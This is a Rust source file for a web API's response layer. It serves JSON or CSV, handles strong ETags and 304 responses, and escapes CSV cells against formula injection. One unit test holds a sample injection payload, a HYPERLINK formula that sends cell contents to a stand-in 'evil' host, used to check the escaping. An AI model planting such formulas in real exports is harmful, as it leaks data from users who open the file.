//! How every aggregate answers a dashboard: JSON, or with `Accept: text/csv` the same rows as
//! CSV (one header row; nested fields become `parent_child` columns); a strong ETag of the
//! answer, `304 Not Modified` with no body when `If-None-Match` names it, and `Cache-Control:
//! private, no-cache`, so a dashboard polls with a conditional request and downloads, parses
//! and redraws only when a figure changed.

use actix_web::http::header::{self, Header};
use actix_web::{HttpRequest, HttpResponse};
use serde::Serialize;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::error::ApiError;

/// An aggregate answer that can also be a table.
pub trait Tabular: Serialize {
    /// The CSV header, in order (checked against the rows by each type's test).
    const COLUMNS: &'static [&'static str];

    /// The rows of the CSV answer, one JSON object each.
    fn rows(&self) -> Vec<Value>;
}

const CACHE_CONTROL: &str = "private, no-cache";

/// The answer as the request asks for it, or 304 when the caller already holds it.
pub fn answer<T: Tabular>(req: &HttpRequest, body: &T) -> Result<HttpResponse, ApiError> {
    match wants_csv(req) {
        true => tagged(req, csv(T::COLUMNS, &body.rows())?, "text/csv; charset=utf-8; header=present"),
        false => answer_json(req, body),
    }
}

/// A JSON-only answer with the same ETag, 304 and caching as the tables.
pub fn answer_json<T: Serialize>(req: &HttpRequest, body: &T) -> Result<HttpResponse, ApiError> {
    tagged(req, serde_json::to_vec(body).map_err(anyhow::Error::from)?, "application/json")
}

/// A JSON answer whose ETag leaves out the value of one top-level string field: a part that
/// moves without the rest mattering (a feed position), so a poll still gets its 304. The body
/// is written once and hashed around that value.
pub fn answer_json_tagged_without<T: Serialize>(
    req: &HttpRequest,
    body: &T,
    untagged_field: &str,
) -> Result<HttpResponse, ApiError> {
    let bytes = serde_json::to_vec(body).map_err(anyhow::Error::from)?;
    let tag = etag_without(&bytes, untagged_field);
    respond(req, bytes, tag, "application/json")
}

/// A strong ETag of the JSON object `bytes` with the value of its string field `field` left out.
fn etag_without(bytes: &[u8], field: &str) -> String {
    let (before, after) = around_string_field(bytes, field);
    etag_of_parts(&[before, after])
}

/// The JSON object `bytes` split around the value of its string field `field`; the whole of
/// it (and nothing after) when there is no such field. Inside a JSON string every quote is
/// escaped, so `"field":"` can only be a key; the field must not recur in a nested object,
/// and its value must hold no escaped quote (a token).
fn around_string_field<'a>(bytes: &'a [u8], field: &str) -> (&'a [u8], &'a [u8]) {
    let key = format!("\"{field}\":\"");
    let value_start = bytes.windows(key.len()).position(|w| w == key.as_bytes()).map(|at| at + key.len());
    let value_end = value_start.and_then(|start| Some(start + bytes[start..].iter().position(|&b| b == b'"')?));
    match (value_start, value_end) {
        (Some(start), Some(end)) => (&bytes[..start], &bytes[end..]),
        _ => (bytes, &[]),
    }
}

fn tagged(req: &HttpRequest, bytes: Vec<u8>, content_type: &str) -> Result<HttpResponse, ApiError> {
    let tag = etag_of(&bytes);
    respond(req, bytes, tag, content_type)
}

/// A strong ETag of `bytes`.
fn etag_of(bytes: &[u8]) -> String {
    etag_of_parts(&[bytes])
}

/// A strong ETag of `parts`, one after another.
fn etag_of_parts(parts: &[&[u8]]) -> String {
    let digest = parts.iter().fold(Sha256::new(), |hash, part| hash.chain_update(part)).finalize();
    format!("\"{}\"", hex(&digest[..16]))
}

fn respond(req: &HttpRequest, bytes: Vec<u8>, tag: String, content_type: &str) -> Result<HttpResponse, ApiError> {
    let held = already_held(req, &tag);
    let mut response = if held { HttpResponse::NotModified() } else { HttpResponse::Ok() };
    response.insert_header((header::ETAG, tag.as_str())).insert_header((header::CACHE_CONTROL, CACHE_CONTROL));
    // The ETag differs between the two representations, and caches must keep them apart.
    response.insert_header((header::VARY, "Accept"));
    Ok(match held {
        true => response.finish(),
        false => response.content_type(content_type).body(bytes),
    })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Whether `Accept` prefers CSV: it names `text/csv` with a quality above every JSON range.
pub(crate) fn wants_csv(req: &HttpRequest) -> bool {
    let Ok(accept) = header::Accept::parse(req) else { return false };
    let quality = |wanted: &dyn Fn(&mime::Mime) -> bool| {
        accept.iter().filter(|item| wanted(&item.item)).map(|item| item.quality).max()
    };
    let csv = quality(&|m| m.type_() == mime::TEXT && m.subtype() == "csv");
    let json = quality(&|m| {
        (m.type_() == mime::APPLICATION || m.type_() == mime::STAR)
            && (m.subtype() == mime::JSON || m.subtype() == mime::STAR)
    });
    csv.is_some_and(|c| c > header::Quality::ZERO && json.is_none_or(|j| c > j))
}

/// Whether `If-None-Match` names `tag` (or is `*`).
fn already_held(req: &HttpRequest, tag: &str) -> bool {
    req.headers().get_all(header::IF_NONE_MATCH).filter_map(|v| v.to_str().ok()).any(|list| {
        list.split(',').map(str::trim).any(|candidate| candidate == "*" || candidate.trim_start_matches("W/") == tag)
    })
}

/// `rows` under `columns`; nested objects are flattened to `parent_child`.
fn csv(columns: &[&str], rows: &[Value]) -> Result<Vec<u8>, ApiError> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(columns).map_err(anyhow::Error::from)?;
    for row in rows {
        write_row(&mut writer, columns, row)?;
    }
    Ok(writer.into_inner().map_err(|e| anyhow::anyhow!("{e}"))?)
}

/// One row under `columns`: every CSV the service writes goes through here.
pub(crate) fn write_row<W: std::io::Write>(
    writer: &mut csv::Writer<W>,
    columns: &[&str],
    row: &Value,
) -> Result<(), ApiError> {
    let mut flat = Vec::new();
    flatten("", row, &mut flat);
    // A field with no column would vanish from the table without a word: a type whose
    // COLUMNS fell behind its rows fails here (and in the tests) instead. Lists stay in
    // the JSON answer: a CSV cell holds one value. A null object (an interval with no
    // data) leaves its columns blank.
    let unlisted = |(k, v): &&(String, &Value)| !v.is_array() && !v.is_null() && !columns.contains(&k.as_str());
    if let Some((field, _)) = flat.iter().find(unlisted) {
        return Err(anyhow::anyhow!("row field `{field}` has no CSV column").into());
    }
    let cell = |column: &str| flat.iter().find(|(name, _)| name == column).map(|(_, value)| *value);
    let cells = columns.iter().map(|c| match cell(c) {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => inert(s),
        Some(other) => other.to_string(),
    });
    writer.write_record(cells).map_err(anyhow::Error::from)?;
    Ok(())
}

/// A text cell a spreadsheet will not run: one that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (a formula, or a character that starts one) gets a leading `'`, which
/// spreadsheets read as "text" and hide (OWASP's CSV injection rule). Numbers are written as
/// numbers, so a negative z-score stays a number; only text that merely looks like one, such
/// as a phone number `+62…`, carries the quote.
fn inert(text: &str) -> String {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

/// The row's leaves in order, named `parent_child`, borrowed: an export writes millions.
fn flatten<'a>(prefix: &str, value: &'a Value, out: &mut Vec<(String, &'a Value)>) {
    match value {
        Value::Object(fields) => {
            for (key, inner) in fields {
                let name = if prefix.is_empty() { key.clone() } else { format!("{prefix}_{key}") };
                flatten(&name, inner, out);
            }
        }
        leaf => out.push((prefix.to_owned(), leaf)),
    }
}

/// The flattened column names of a row, in order: what `COLUMNS` must equal.
pub fn columns_of(row: &Value) -> Vec<String> {
    let mut flat = Vec::new();
    flatten("", row, &mut flat);
    flat.into_iter().map(|(name, _)| name).collect()
}

#[cfg(test)]
mod tests {
    use actix_web::test::TestRequest;

    use super::*;

    #[test]
    fn csv_is_chosen_only_when_preferred() {
        let with =
            |accept: &str| wants_csv(&TestRequest::default().insert_header(("Accept", accept)).to_http_request());
        assert!(with("text/csv"));
        assert!(with("text/csv, application/json;q=0.5"));
        assert!(!with("application/json, text/csv;q=0.5"));
        assert!(!with("*/*"));
        assert!(!with("text/csv;q=0"));
        assert!(!wants_csv(&TestRequest::default().to_http_request()));
    }

    #[test]
    fn nested_fields_become_columns_and_nulls_empty_cells() {
        let rows =
            [serde_json::json!({"code": "14", "ci": {"low": 1.5, "high": 2.0}, "n": null, "name": "Riau, Kampar"})];
        let text = String::from_utf8(csv(&["code", "ci_low", "ci_high", "n", "name"], &rows).unwrap()).unwrap();
        assert_eq!(text, "code,ci_low,ci_high,n,name\n14,1.5,2.0,,\"Riau, Kampar\"\n");
        assert_eq!(columns_of(&rows[0]), ["code", "ci_low", "ci_high", "n", "name"]);
    }

    #[test]
    fn text_that_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers() {
        let rows = [serde_json::json!({
            "name": "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "phone": "+6281234", "note": "-1+1",
            "by": "@SUM(A1)", "tab": "\tx", "cr": "\rx", "plain": "Siti", "z": -2.41, "n": -3
        })];
        let columns = ["name", "phone", "note", "by", "tab", "cr", "plain", "z", "n"];
        let text = String::from_utf8(csv(&columns, &rows).unwrap()).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        let cells: Vec<&str> = record.iter().collect();
        assert_eq!(
            cells,
            [
                "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
                "'+6281234",
                "'-1+1",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "Siti",
                "-2.41",
                "-3"
            ]
        );
    }

    #[test]
    fn if_none_match_names_the_tag_among_others() {
        let req = |value: &str| TestRequest::default().insert_header(("If-None-Match", value)).to_http_request();
        assert!(already_held(&req("\"a\", \"b\""), "\"b\""));
        assert!(already_held(&req("W/\"b\""), "\"b\""));
        assert!(already_held(&req("*"), "\"b\""));
        assert!(!already_held(&req("\"a\""), "\"b\""));
    }

    #[test]
    fn the_untagged_field_is_cut_out_by_key_not_by_text() {
        // A name holding the key's text is escaped inside its string, so it is not the key.
        let body = br#"{"as_of":"2025-12-15","name":"\"changes_since\":\"x","changes_since":"42","items":[]}"#;
        let (before, after) = around_string_field(body, "changes_since");
        assert_eq!(before, br#"{"as_of":"2025-12-15","name":"\"changes_since\":\"x","changes_since":""#);
        assert_eq!(after, br#"","items":[]}"#);
        let moved = br#"{"as_of":"2025-12-15","name":"\"changes_since\":\"x","changes_since":"43","items":[]}"#;
        let tag = |b: &[u8]| etag_without(b, "changes_since");
        assert_eq!(tag(body), tag(moved));
        assert_ne!(tag(body), tag(br#"{"as_of":"2025-12-16","changes_since":"42","items":[]}"#));
        assert_eq!(around_string_field(b"{}", "changes_since"), (&b"{}"[..], &b""[..]));
    }
}
